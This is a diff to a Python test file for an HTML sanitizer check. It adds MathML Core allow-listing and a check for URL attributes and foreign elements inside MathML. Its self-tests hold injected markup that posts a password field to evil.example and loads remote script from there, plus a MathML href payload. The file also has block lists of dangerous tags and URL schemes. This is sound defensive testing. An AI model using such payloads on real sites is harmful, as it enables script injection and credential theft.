@@ -30,7 +30,12 @@ from tests.xss_payloads import REFUSED_URLS, TEXT_PAYLOADS, URL_PAYLOADS
 
 #: Elements no built output may contain (ours included).
 FORBIDDEN = {"script", "style", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "form",
-             "input", "button", "textarea", "select", "svg", "math", "noscript", "template"}
+             "input", "button", "textarea", "select", "svg", "noscript", "template", "xmp"}
+MATHML = "{http://www.w3.org/1998/Math/MathML}"
+#: The MathML a formula may hold (MathML Core's presentation elements): nothing that links, embeds HTML or acts.
+MATHML_CORE = {"math", "annotation", "merror", "mfrac", "mi", "mmultiscripts", "mn", "mo", "mover", "mpadded",
+               "mphantom", "mprescripts", "mroot", "mrow", "ms", "mspace", "msqrt", "mstyle", "msub", "msubsup", "msup",
+               "mtable", "mtd", "mtext", "mtr", "munder", "munderover", "semantics"}
 URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "srcset",
                   "xlink:href", "ping", "longdesc", "lowsrc", "dynsrc"}
 DANGEROUS_SCHEME = re.compile(r"^(javascript|data|vbscript|file):", re.IGNORECASE)
@@ -230,6 +235,7 @@ def _html_problems(document: Any, where: str, *, email_css: bool = False) -> lis
         if not isinstance(element.tag, str):
             continue
         tag = element.tag.rsplit("}", 1)[-1].lower()
+        problems += _mathml_problems(element, tag, where)
         email_style = email_css and tag == "style" and not DANGEROUS_STYLE.search(element.text or "")
         if tag in FORBIDDEN and not email_style and not _ours(tag, element):
             problems.append(f"{where}: <{tag}> element")
@@ -244,6 +250,16 @@ def _html_problems(document: Any, where: str, *, email_css: bool = False) -> lis
             if "noopener" not in element.get("rel", "").split():
                 problems.append(f"{where}: outside link without rel=noopener: {element.get('href')!r}")
     return problems
+
+
+def _mathml_problems(element: Any, tag: str, where: str) -> list[str]:
+    """A MathML element that is not MathML Core's, one with a URL, or an element of another kind inside one."""
+    if not element.tag.startswith(MATHML):
+        return []
+    problems = [f"{where}: MathML <{tag}>"] if tag not in MATHML_CORE else []
+    problems += [f"{where}: <{tag} {name}>" for name in element.attrib if name.rsplit("}", 1)[-1] in URL_ATTRIBUTES]
+    return problems + [f"{where}: <{child.tag}> in MathML <{tag}>" for child in element
+                       if isinstance(child.tag, str) and not child.tag.startswith(MATHML)]
 
 
 def _attribute_problems(tag: str, element: Any, where: str, email_css: bool = False) -> list[str]:
@@ -332,6 +348,8 @@ def test_the_checker_sees_what_it_must():
                               "t")) == 1
     injected = '<form action="https://evil.example/"><input name="pw"></form><script src="https://evil.example/x.js">'
     assert len(_html_problems(_parse_html(injected), "t")) == 3
+    formula = '<math><maction><mi>x</mi></maction><mi href="https://evil.example/">y</mi><mtext><b>z</b></mtext></math>'
+    assert len(_html_problems(_parse_html(formula), "t")) == 3
 
 
 @pytest.fixture
